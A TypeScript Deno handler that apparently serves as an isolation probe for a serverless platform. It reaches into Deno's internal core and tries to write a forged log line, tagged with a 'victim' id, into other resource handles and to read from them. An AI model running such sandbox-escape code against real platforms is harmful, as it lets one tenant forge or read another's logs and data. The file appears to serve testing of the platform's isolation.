// Looks for the platform's open files and sockets in Deno's own table, and speaks through them.
import { tries } from '../tries.ts';

export default async (request: Request) => {
  const { victim } = await request.json();
  const line = { t: 'log', id: victim, lines: [[Date.now(), 'error', 'a forged line']] };
  const bytes = new TextEncoder().encode(`${JSON.stringify(line)}\n`);
  const internal = (Deno as never as Record<symbol, { core?: Core }>)[
    (Deno as never as { internal: symbol }).internal
  ];
  const core = (): Core => {
    if (internal?.core === undefined) throw new Error('there is no core');
    return internal.core;
  };
  const numbers = Array.from({ length: 60 }, (_, index) => index + 3);
  const outcomes = await tries({
    names: () => {
      const others = Object.entries(core().resources()).filter(([, name]) => !name.startsWith('std'));
      if (others.length === 0) throw new Error('none but its own');
      return others;
    },
    write: () => Promise.any(numbers.map(async (rid) => `${rid} ${await core().write(rid, bytes)}`)),
    write_now: () => {
      for (const rid of numbers) {
        try {
          return `${rid} ${core().writeSync(rid, bytes)}`;
        } catch {
          // the next, if there is one
        }
      }
      throw new Error('none');
    },
    read: () =>
      Promise.any(numbers.map(async (rid) => `${rid} ${await core().read(rid, new Uint8Array(9))}`)),
  });
  console.log('its own line');
  return outcomes;
};

interface Core {
  resources(): Record<string, string>;
  write(rid: number, bytes: Uint8Array): Promise<number>;
  writeSync(rid: number, bytes: Uint8Array): number;
  read(rid: number, bytes: Uint8Array): Promise<number>;
}
